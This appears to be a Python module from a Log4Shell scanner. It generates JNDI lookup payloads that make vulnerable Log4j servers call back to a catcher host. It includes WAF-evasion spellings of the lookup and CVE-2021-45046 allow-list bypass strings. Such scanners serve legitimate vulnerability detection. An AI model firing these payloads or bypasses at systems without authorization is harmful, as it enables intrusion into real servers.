"""Payload generator: lookup expressions that call back to the catcher.

Every rendered payload embeds a fresh marker as ``<marker>.<resource>`` in
the lookup path (LDAP base DN, DNS query name), so a callback can be traced
back to the exact request that caused it.
"""

import uuid
from typing import Iterable, List, Optional, Tuple

from log4scan.core.models import PayloadVariant

PLACEHOLDER_PROTO = "{{proto}}"
PLACEHOLDER_CADDR = "{{caddr}}"
PLACEHOLDER_MARKER = "{{marker}}"
PLACEHOLDER_RESOURCE = "{{resource}}"

_TAIL = "{{proto}}://{{caddr}}/{{marker}}.{{resource}}}"

CANONICAL = "${jndi:" + _TAIL

# Equivalent lookups with different spelling, for naive signature filters.
WAF_BYPASS = [
    "${${::-j}${::-n}${::-d}${::-i}:" + _TAIL,
    "${${lower:jndi}:" + _TAIL,
    "${${lower:${lower:jndi}}:" + _TAIL,
    "${${lower:j}${upper:n}${lower:d}${upper:i}:" + _TAIL,
    "${j${::-n}di:" + _TAIL,
    "${${upper:j}ndi:" + _TAIL,
    "${${env:NaN:-j}ndi${env:NaN:-:}" + _TAIL,
    "${jndi:${lower:{{proto}}}://{{caddr}}/{{marker}}.{{resource}}}",
]

# Localhost allow-list bypass of the 2.15.0 fix (CVE-2021-45046).
CVE_2021_45046 = [
    "${jndi:{{proto}}://127.0.0.1#{{caddr}}/{{marker}}.{{resource}}}",
    "${jndi:{{proto}}://127.0.0.1#.{{caddr}}/{{marker}}.{{resource}}}",
]

_PROTOCOLS = {"dns": "dns", "ldap": "ldap", "tcp": "ldap", "none": "ldap"}


def new_marker() -> str:
    """32 hex chars: collision resistant and a valid DNS label."""
    return uuid.uuid4().hex


def lookup_protocol(catcher_kind: str) -> str:
    return _PROTOCOLS.get(catcher_kind, "ldap")


class PayloadGenerator:
    """Renders trigger strings for one scan."""

    def __init__(self, catcher_kind: str, caddr: str, resource: str = "l4s",
                 templates: Optional[Iterable[str]] = None,
                 waf_bypass: bool = False, check_cve_2021_45046: bool = False):
        self.proto = lookup_protocol(catcher_kind)
        self.caddr = caddr
        self.resource = resource
        self.custom = list(templates or [])
        self.waf_bypass = waf_bypass
        self.check_cve_2021_45046 = check_cve_2021_45046

    @classmethod
    def from_options(cls, opts) -> "PayloadGenerator":
        return cls(
            catcher_kind=opts.catcher_type,
            caddr=opts.caddr,
            resource=opts.resource,
            templates=opts.payloads,
            waf_bypass=opts.waf_bypass,
            check_cve_2021_45046=opts.check_cve_2021_45046,
        )

    def templates(self) -> List[Tuple[str, bool]]:
        """(template, obfuscated) pairs to try at every injection point."""
        result = [(t, False) for t in (self.custom or [CANONICAL])]
        if self.waf_bypass:
            result += [(t, True) for t in WAF_BYPASS]
        if self.check_cve_2021_45046:
            result += [(t, False) for t in CVE_2021_45046]
        return result

    def render(self, template: str, marker: str) -> str:
        return (template
                .replace(PLACEHOLDER_PROTO, self.proto)
                .replace(PLACEHOLDER_CADDR, self.caddr)
                .replace(PLACEHOLDER_MARKER, marker)
                .replace(PLACEHOLDER_RESOURCE, self.resource))

    def variant(self, template: str = CANONICAL, obfuscated: bool = False,
                marker: Optional[str] = None) -> PayloadVariant:
        marker = marker or new_marker()
        return PayloadVariant(marker=marker, text=self.render(template, marker),
                              obfuscated=obfuscated)

    def canonical(self, marker: Optional[str] = None) -> PayloadVariant:
        return self.variant(CANONICAL, False, marker)

    def obfuscation_set(self, marker: Optional[str] = None) -> List[PayloadVariant]:
        """Every WAF-bypass rendering, one fresh marker each unless one is given."""
        return [self.variant(t, True, marker) for t in WAF_BYPASS]
